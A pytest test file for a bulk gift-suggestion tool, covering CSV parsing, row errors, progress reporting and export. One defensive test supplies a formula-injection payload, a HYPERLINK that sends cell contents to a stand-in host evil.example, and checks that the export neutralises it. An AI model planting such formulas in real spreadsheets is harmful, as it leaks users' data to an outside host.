"""Bulk gift analysis: CSV parsing, per-row problems, real progress, and the result's shapes."""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import random
import threading
from collections.abc import Sequence
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from giftgenius.bulk import EXPECTED_HEADER, BulkInputError, BulkResult, PersonResult, RowProblem, analyze
from giftgenius.catalog import load_catalog

CATALOG = load_catalog()

INTERESTS = [
    "hiking",
    "coffee",
    "photography",
    "board games",
    "cooking",
    "gardening",
    "yoga",
    "running",
    "reading",
    "music",
    "travel",
    "wine",
    "tea",
    "cycling",
    "painting",
    "baking",
    "camping",
    "chess",
    "golf",
    "science fiction",
]
DEPARTMENTS = ["Engineering", "Sales", "Marketing", "Finance", "People", "Support"]


class Recorder:
    """A progress callback that keeps every report."""

    def __init__(self) -> None:
        self.calls: list[tuple[float, str]] = []

    async def __call__(self, percent: float, stage: str) -> None:
        self.calls.append((percent, stage))

    @property
    def percents(self) -> list[float]:
        return [percent for percent, _stage in self.calls]

    @property
    def stages(self) -> list[str]:
        order: list[str] = []
        for _percent, stage in self.calls:
            if not order or order[-1] != stage:
                order.append(stage)
        return order


def make_csv(
    rows: Sequence[Sequence[str]], header: Sequence[str] = ("name", "department", "interests", "budget")
) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def generated_csv(count: int, seed: int = 7) -> str:
    rnd = random.Random(seed)
    rows = []
    for index in range(count):
        budget = "" if rnd.random() < 0.6 else rnd.choice(["25", "40", "75", "100"])
        interests = "; ".join(rnd.sample(INTERESTS, rnd.randint(1, 3)))
        rows.append([f"Employee {index}", rnd.choice(DEPARTMENTS), interests, budget])
    return make_csv(rows)


async def run(text: str, **options: object) -> tuple[BulkResult, Recorder]:
    recorder = Recorder()
    result = await analyze(text, progress=recorder, catalog=CATALOG, **options)  # type: ignore[arg-type]
    return result, recorder


async def expect_error(text: str, code: str) -> BulkInputError:
    with pytest.raises(BulkInputError) as caught:
        await run(text)
    assert caught.value.code == code, caught.value
    assert caught.value.message
    assert caught.value.hint
    return caught.value


# --- a small file --------------------------------------------------------------------------------------


SMALL = make_csv(
    [
        ["Ada Lovelace", "Engineering", "board games; Chess", "25"],
        ["Grace Hopper", "Engineering", "coffee;hiking", ""],
        ["Katherine Johnson", "Finance", "gardening", "120"],
    ]
)


async def test_small_file_gives_each_person_gifts_within_budget() -> None:
    result, _progress = await run(SMALL, occasion="Christmas", budget_per_person=50)
    assert [person.name for person in result.people] == ["Ada Lovelace", "Grace Hopper", "Katherine Johnson"]
    assert [person.budget for person in result.people] == [25.0, 50.0, 120.0]
    assert result.people[0].interests == ("board games", "chess")
    assert result.problems == []
    assert result.occasion == "holiday"
    for person in result.people:
        assert len(person.gifts) == 3
        assert person.note is None
        for gift in person.gifts:
            assert set(gift) == {"name", "price", "category", "reason"}
            assert 0 < gift["price"] <= person.budget
    catalog_names = {gift.name for gift in CATALOG.gifts}
    assert all(gift["name"] in catalog_names for person in result.people for gift in person.gifts)
    ada_reasons = " ".join(gift["reason"] for gift in result.people[0].gifts)
    assert "board games" in ada_reasons or "chess" in ada_reasons
    assert result.departments == {"Engineering": 2, "Finance": 1}
    assert result.interests["hiking"] == 1
    assert result.summary_text() == "Picked gifts for all 3 people; no rows had problems."


async def test_gift_count_is_configurable() -> None:
    result, _progress = await run(SMALL, count=1)
    assert [len(person.gifts) for person in result.people] == [1, 1, 1]


async def test_to_json_shape() -> None:
    result, _progress = await run(SMALL + "Nobody,Sales,,\n")
    data = result.to_json()
    assert data["occasion"] == "holiday"
    assert data["budgetPerPerson"] == 50.0
    assert len(data["people"]) == 3
    assert data["people"][0]["interests"] == ["board games", "chess"]
    assert data["problems"] == [{"row": 5, "reason": data["problems"][0]["reason"]}]
    summary = data["summary"]
    assert summary["people"] == 3
    assert summary["withGifts"] == 3
    assert summary["problems"] == 1
    assert summary["departments"] == {"Engineering": 2, "Finance": 1}
    assert {"interest": "coffee", "count": 1} in summary["topInterests"]


async def test_header_is_flexible() -> None:
    text = "\ufeff Name ,EMAIL, Interests ,Department\nAda,ada@example.com,tea,Engineering\n"
    result, _progress = await run(text, budget_per_person=30)
    assert len(result.people) == 1
    person = result.people[0]
    assert (person.name, person.department, person.interests, person.budget) == (
        "Ada",
        "Engineering",
        ("tea",),
        30.0,
    )
    assert all(gift["price"] <= 30 for gift in person.gifts)


async def test_nothing_within_budget_is_a_note_not_an_error() -> None:
    text = make_csv([["Penny", "Finance", "coffee", "1"], ["Rich", "Finance", "coffee", "80"]])
    result, _progress = await run(text)
    penny, rich = result.people
    assert list(penny.gifts) == []
    assert penny.note is not None
    assert "raise the budget" in penny.note
    assert rich.gifts
    assert rich.note is None
    assert result.summary_text().startswith("Picked gifts for 1 of 2 people; no rows had problems.")
    assert "1 person has no gift within budget" in result.summary_text()


# --- bad rows ------------------------------------------------------------------------------------------


async def test_bad_rows_are_reported_and_good_rows_still_get_gifts() -> None:
    text = (
        "name,department,interests,budget\n"  # line 1
        "Ada,Engineering,chess,30\n"  # 2
        ",Sales,coffee,30\n"  # 3: missing name
        "Bob,Sales, ; ,30\n"  # 4: no interests
        "Cy,Sales,tea,cheap\n"  # 5: non-numeric budget
        "Di,Sales,tea,-5\n"  # 6: negative budget
        "Ed,Sales,tea,0\n"  # 7: zero budget
        "Flo,Sales,tea,30,extra\n"  # 8: too many fields
        "Gus,Sales\n"  # 9: too few fields
        "\n"  # 10: blank lines are skipped
        'Hal,Support,"yoga;\nreading",$45\n'  # 11-12: one record over two lines
        "Ivy,Support,,nan\n"  # 13: two problems at once
        "Ada,Engineering,chess,30\n"  # 14: duplicates are allowed
    )
    result, _progress = await run(text)
    assert [(person.name, person.budget) for person in result.people] == [
        ("Ada", 30.0),
        ("Hal", 45.0),
        ("Ada", 30.0),
    ]
    assert result.people[1].interests == ("yoga", "reading")
    for person in result.people:
        assert person.gifts
        assert all(gift["price"] <= person.budget for gift in person.gifts)
    reasons = {problem.row: problem.reason for problem in result.problems}
    assert sorted(reasons) == [3, 4, 5, 6, 7, 8, 9, 13]
    assert reasons[3] == "missing name"
    assert "no interests" in reasons[4]
    assert "'cheap' is not a number" in reasons[5]
    assert "positive" in reasons[6]
    assert "positive" in reasons[7]
    assert "has 5 fields but the header has 4" in reasons[8]
    assert "has 2 fields but the header has 4" in reasons[9]
    assert "no interests" in reasons[13]
    assert "'nan'" in reasons[13]
    assert result.summary_text() == (
        "Picked gifts for all 3 people; 8 rows had problems (rows 3, 4, 5, 6, 7 and 3 more)."
    )


async def test_summary_names_problem_rows() -> None:
    text = make_csv([["Ada", "Eng", "tea", ""], ["", "Eng", "tea", ""]])
    result, _progress = await run(text)
    assert result.problems == [RowProblem(3, "missing name")]
    assert result.summary_text() == "Picked gifts for all 1 person; 1 row had a problem (row 3)."


# --- whole-input errors -------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["", "   \n\t \n", "\ufeff", ",,,\n,,\n"])
async def test_empty_input(text: str) -> None:
    error = await expect_error(text, "empty_input")
    assert EXPECTED_HEADER in error.hint


async def test_binary_junk_is_not_csv() -> None:
    rnd = random.Random(3)
    junk = bytes(rnd.randrange(256) for _ in range(2000)).decode("latin-1")
    error = await expect_error(junk, "not_csv")
    assert "CSV" in error.hint


async def test_text_with_nul_bytes_is_not_csv() -> None:
    error = await expect_error("name,department,interests\nAda,Eng,te\x00a\n", "not_csv")
    assert "NUL characters" in error.message
    assert "Send the CSV text itself" in error.hint


async def test_text_of_control_characters_is_not_csv() -> None:
    error = await expect_error("name,department,interests\n" + "\x01\x02\x03" * 20, "not_csv")
    assert "60 of its first 86 characters are control characters" in error.message


async def test_undecodable_bytes_are_not_csv() -> None:
    junk = bytes(range(128, 256)).decode("utf-8", errors="replace") * 4
    await expect_error(junk, "not_csv")


async def test_missing_columns_are_named() -> None:
    error = await expect_error("name,dept,hobbies\nAda,Eng,tea\n", "missing_columns")
    assert "department" in error.message
    assert "interests" in error.message
    assert "name" not in error.message.replace("column", "")
    assert EXPECTED_HEADER in error.hint
    assert "name,dept,hobbies" in error.hint


async def test_data_without_header_is_missing_columns() -> None:
    error = await expect_error("Ada,Engineering,tea,30\n", "missing_columns")
    assert EXPECTED_HEADER in error.hint


async def test_header_only_has_no_valid_rows() -> None:
    error = await expect_error("name,department,interests,budget\n", "no_valid_rows")
    assert "no employee rows" in error.message


async def test_all_bad_rows_summarize_problems() -> None:
    text = make_csv(
        [["", "Eng", "tea", ""], ["Bo", "Eng", "", ""], ["Cy", "Eng", "tea", "x"], ["", "", "", "1"]]
    )
    error = await expect_error(text, "no_valid_rows")
    assert "4 rows" in error.message
    assert "row 2: missing name" in error.hint
    assert "row 3: no interests" in error.hint
    assert "row 4: budget 'x'" in error.hint
    assert "and 1 more" in error.hint


@pytest.mark.parametrize(
    "options",
    [{"budget_per_person": 0}, {"budget_per_person": float("nan")}, {"occasion": "  "}, {"count": 0}],
)
async def test_invalid_options(options: dict[str, object]) -> None:
    with pytest.raises(BulkInputError) as caught:
        await run(SMALL, **options)
    assert caught.value.code == "invalid_options"


# --- delimiters and numbers as spreadsheets write them -------------------------------------------------


async def test_semicolon_delimited_with_quoted_cells() -> None:
    text = (
        "\ufeffname;department;interests;budget\r\n"
        '"Lovelace, Ada";"R&D; Labs";"board games;chess";"25,50"\r\n'
        "Grace Hopper;Ops;coffee, hiking;1.000,00\r\n"
    )
    result, recorder = await run(text)
    assert result.problems == []
    assert [(p.name, p.department, p.interests, p.budget) for p in result.people] == [
        ("Lovelace, Ada", "R&D; Labs", ("board games", "chess"), 25.5),
        ("Grace Hopper", "Ops", ("coffee", "hiking"), 1000.0),
    ]
    assert all(person.gifts for person in result.people)
    assert_progress_is_sound(recorder)


async def test_tab_delimited() -> None:
    text = "name\tdepartment\tinterests\tbudget\nAda\tR&D, Labs\tchess, tea; yoga\t30\n"
    result, _progress = await run(text)
    assert [(p.name, p.department, p.interests, p.budget) for p in result.people] == [
        ("Ada", "R&D, Labs", ("chess", "tea", "yoga"), 30.0)
    ]


async def test_a_comma_file_splits_interests_on_semicolons_only() -> None:
    result, _progress = await run(make_csv([["Ada", "Eng", "rock, paper; tea", ""]]))
    assert result.people[0].interests == ("rock, paper", "tea")


async def test_a_row_too_wide_is_told_to_quote_the_files_delimiter() -> None:
    result, _progress = await run("name;department;interests\nAda;Eng;tea\nBo;Eng;tea;x\n")
    assert result.problems == [
        RowProblem(3, "has 4 fields but the header has 3; quote any value that contains a semicolon")
    ]


@pytest.mark.parametrize(
    ("written", "budget"),
    [
        ("40", 40.0),
        ("$45", 45.0),
        ("40.50", 40.5),
        ("40,50", 40.5),
        ("12,5", 12.5),
        ("1,000", 1000.0),
        ("1,000.50", 1000.5),
        ("1.000,50", 1000.5),
        ("1,234,567", 1234567.0),
    ],
)
async def test_a_budget_may_use_either_decimal_mark(written: str, budget: float) -> None:
    result, _progress = await run(make_csv([["Ada", "Eng", "tea", written]]))
    assert result.people[0].budget == budget


# --- progress ------------------------------------------------------------------------------------------


def assert_progress_is_sound(recorder: Recorder) -> None:
    percents = recorder.percents
    assert percents[0] == 0.0
    assert percents[-1] == 100.0
    assert all(later > earlier for earlier, later in itertools.pairwise(percents))
    assert all(0.0 <= percent <= 100.0 for percent in percents)
    assert recorder.stages == ["parse", "extract", "match", "write"]


async def test_progress_is_per_row_and_strictly_increasing() -> None:
    result, recorder = await run(generated_csv(200))
    assert len(result.people) == 200
    assert_progress_is_sound(recorder)
    assert len(recorder.calls) > 100
    by_stage = {stage: [p for p, s in recorder.calls if s == stage] for stage in recorder.stages}
    assert max(by_stage["parse"]) <= 10.0
    assert min(by_stage["extract"]) > 10.0
    assert max(by_stage["extract"]) <= 40.0
    assert min(by_stage["match"]) > 40.0
    assert max(by_stage["match"]) <= 70.0
    assert min(by_stage["write"]) > 70.0
    for stage, percents in by_stage.items():
        assert len(percents) > 10, stage


async def test_progress_for_a_single_row() -> None:
    _result, recorder = await run(make_csv([["Ada", "Eng", "tea", ""]]))
    assert recorder.calls == [
        (0.0, "parse"),
        (10.0, "parse"),
        (40.0, "extract"),
        (70.0, "match"),
        (100.0, "write"),
    ]


async def test_checkpoint_can_stop_the_job() -> None:
    class Stop(Exception):
        pass

    calls = 0

    async def checkpoint() -> None:
        nonlocal calls
        calls += 1
        if calls == 3:
            raise Stop

    recorder = Recorder()
    with pytest.raises(Stop):
        await analyze(generated_csv(500), progress=recorder, catalog=CATALOG, checkpoint=checkpoint)
    assert calls == 3
    assert recorder.percents[-1] < 100.0


@pytest.mark.slow
async def test_ten_thousand_rows() -> None:
    checkpoints = 0

    async def checkpoint() -> None:
        nonlocal checkpoints
        checkpoints += 1

    recorder = Recorder()
    result = await analyze(generated_csv(10_000), progress=recorder, checkpoint=checkpoint)
    assert len(result.people) == 10_000
    assert result.problems == []
    assert result.with_gifts == 10_000
    assert_progress_is_sound(recorder)
    assert len(recorder.calls) <= 201
    assert checkpoints >= 4 * 10_000 // 50 - 4
    assert sum(result.departments.values()) == 10_000
    assert len(result.interests) == 10


async def test_the_rows_are_worked_through_off_the_event_loop(monkeypatch: pytest.MonkeyPatch) -> None:
    """A big file must not hold the loop: the per-row work runs on another thread, and the
    progress callback (which writes to the store) runs on the loop."""
    import giftgenius.bulk as bulk

    loop_thread = threading.get_ident()
    row_threads: set[int] = set()
    parse_row = bulk._parse_row

    def watched(*args: Any) -> Any:
        row_threads.add(threading.get_ident())
        return parse_row(*args)

    monkeypatch.setattr(bulk, "_parse_row", watched)
    reported_on: set[int] = set()

    async def progress(_percent: float, _stage: str) -> None:
        reported_on.add(threading.get_ident())

    await analyze(generated_csv(100), progress=progress, catalog=CATALOG)
    assert row_threads, "the rows were parsed"
    assert loop_thread not in row_threads
    assert reported_on == {loop_thread}


async def test_the_json_written_in_slices_is_the_whole_document() -> None:
    """`to_json_bytes` serialises people a slice at a time: the bytes are `to_json`'s exactly,
    across several slices, with rows that had problems."""
    text = generated_csv(1_200) + "Nobody,,,\n"
    result, _ = await run(text)
    assert len(result.people) > 2 * 500, "more than two slices"
    assert result.problems, "a problem row, after the people"
    assert result.to_json_bytes() == orjson.dumps(result.to_json())


async def test_reports_may_be_spaced_in_time_keeping_each_stage_and_the_end() -> None:
    recorder = Recorder()
    await analyze(generated_csv(400), progress=recorder, catalog=CATALOG, report_every=3600)
    assert recorder.stages == ["parse", "extract", "match", "write"]
    assert [stage for _percent, stage in recorder.calls] == ["parse", "extract", "match", "write", "write"]
    assert recorder.percents[-1] == 100.0


# --- CSV output ----------------------------------------------------------------------------------------


async def test_to_csv_round_trips() -> None:
    text = make_csv(
        [
            ['Smith, "Jo"', "R&D, Labs", "coffee; tea", "40"],
            ["Penny", "Finance", "coffee", "2"],
        ]
    )
    result, _progress = await run(text)
    rows = list(csv.reader(io.StringIO(result.to_csv())))
    assert rows[0] == [
        "name",
        "department",
        "gift_1",
        "gift_1_price",
        "gift_2",
        "gift_2_price",
        "gift_3",
        "gift_3_price",
        "note",
    ]
    assert len(rows) == 3
    first, second = rows[1], rows[2]
    assert first[:2] == ['Smith, "Jo"', "R&D, Labs"]
    gifts = result.people[0].gifts
    assert first[2:8] == [value for gift in gifts for value in (gift["name"], f"{gift['price']:.2f}")]
    assert first[8] == ""
    assert second[:2] == ["Penny", "Finance"]
    assert second[2:8] == [""] * 6
    assert second[8] == result.people[1].note


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def test_to_csv_neutralises_cells_a_spreadsheet_would_run() -> None:
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    result, _progress = await run(make_csv([[link, "+cmd", "+cmd; tea", "40"], ["@Bo", "-Ops", "tea", "1"]]))
    rows = list(csv.reader(io.StringIO(result.to_csv())))
    assert [row[:2] for row in rows[1:]] == [["'" + link, "'+cmd"], ["'@Bo", "'-Ops"]]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert [float(price) for price in rows[1][3:8:2]] == [gift["price"] for gift in result.people[0].gifts]
    assert result.people[0].name == link, "only the export is neutralised; the JSON keeps the input"


def test_to_csv_neutralises_gift_names_and_notes() -> None:
    gift = {"name": "\tTab", "price": 5.0, "category": "x", "reason": "y"}
    person = PersonResult("\rAda", "Eng", ("tea",), 9.0, [gift], note="-1 for fun")
    result = BulkResult([person], [], "holiday", 9.0, {"Eng": 1}, {"tea": 1})
    assert result.to_csv().split("\n")[1] == "'\rAda,Eng,'\tTab,5.00,'-1 for fun"


# --- properties ----------------------------------------------------------------------------------------

NAMES = st.text(
    alphabet=st.characters(categories=["L", "Nd"]) | st.sampled_from(" ,'\"-."), min_size=1, max_size=20
).filter(lambda name: any(char.isalnum() for char in name))
ROWS = st.lists(
    st.tuples(
        NAMES,
        st.sampled_from(DEPARTMENTS),
        st.lists(st.sampled_from(INTERESTS), min_size=1, max_size=4),
        st.none() | st.floats(min_value=1, max_value=500, allow_nan=False, allow_infinity=False),
    ),
    min_size=1,
    max_size=8,
)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    rows=ROWS,
    default=st.floats(min_value=1, max_value=300),
    occasion=st.sampled_from(["holiday", "birthday", "farewell"]),
)
def test_gifts_stay_within_each_budget(
    rows: list[tuple[str, str, list[str], float | None]], default: float, occasion: str
) -> None:
    text = make_csv(
        [
            [name, department, "; ".join(interests), "" if budget is None else repr(budget)]
            for name, department, interests, budget in rows
        ]
    )
    result, recorder = asyncio.run(run(text, budget_per_person=default, occasion=occasion))
    assert result.problems == []
    assert len(result.people) == len(rows)
    for person, (_name, _department, _interests, budget) in zip(result.people, rows, strict=True):
        expected = default if budget is None else budget
        assert person.budget == expected
        assert all(gift["price"] <= expected for gift in person.gifts)
        assert person.gifts or person.note
    assert_progress_is_sound(recorder)


@pytest.mark.slow
async def test_a_resumed_run_reuses_the_saved_matches_and_ends_the_same(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import orjson

    from giftgenius import suggest

    text = generated_csv(4_500)
    matched = 0
    real = suggest.suggest_gifts

    def counting(*args: object, **kwargs: object) -> object:
        nonlocal matched
        matched += 1
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr("giftgenius.bulk.suggest_gifts", counting)
    saved: list[dict[str, object]] = []

    async def save(state: dict[str, object]) -> None:
        saved.append(orjson.loads(orjson.dumps(state)))  # as the store keeps it: JSON

    whole = await analyze(text, progress=Recorder(), catalog=CATALOG, save=save)
    assert saved, "a long run saves its matches"
    every_match, matched = matched, 0
    last = saved[-1]["matches"]
    assert isinstance(last, list)
    resumed = await analyze(text, progress=Recorder(), catalog=CATALOG, resume=saved[-1])
    assert resumed.to_json() == whole.to_json(), "a resumed run ends with the same result"
    assert matched == every_match - len(last), "what was saved is not matched again"
    ignored = await analyze(text, progress=Recorder(), catalog=CATALOG, resume={"matches": "garbled"})
    assert ignored.to_json() == whole.to_json()
